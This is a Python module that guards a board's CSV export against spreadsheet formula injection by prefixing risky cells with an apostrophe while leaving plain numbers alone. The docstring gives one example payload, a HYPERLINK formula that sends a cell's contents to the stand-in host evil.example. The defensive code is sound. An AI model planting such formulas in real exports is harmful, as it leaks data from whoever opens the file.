"""CSV cells a spreadsheet will not run as a formula (OWASP, "CSV Injection").

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and some also after a leading tab or carriage return: a team named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a live link (or worse) in the
spreadsheet of whoever opens a board's export.  Such a cell gets a leading apostrophe, which
spreadsheets show as text and do not display.  A plain number keeps its form (``-3.5`` must stay
a number someone can sort and add), and values that are numbers in Python are never touched.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number as a spreadsheet reads one: optional sign, digits with an optional fraction, an
# optional exponent; nothing else (no spaces, no second sign, no operator).
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell_safe(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet evaluates."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_rows_safe(fields: Sequence[str], records: Iterable[Mapping[str, Any]]) -> Iterator[list[Any]]:
    """The header and one row per record, for ``csv.writer``, every cell made safe: the header
    too, since its names come from datasets and metrics, which organizers name."""
    yield [csv_cell_safe(name) for name in fields]
    for record in records:
        yield [csv_cell_safe(record.get(name)) for name in fields]
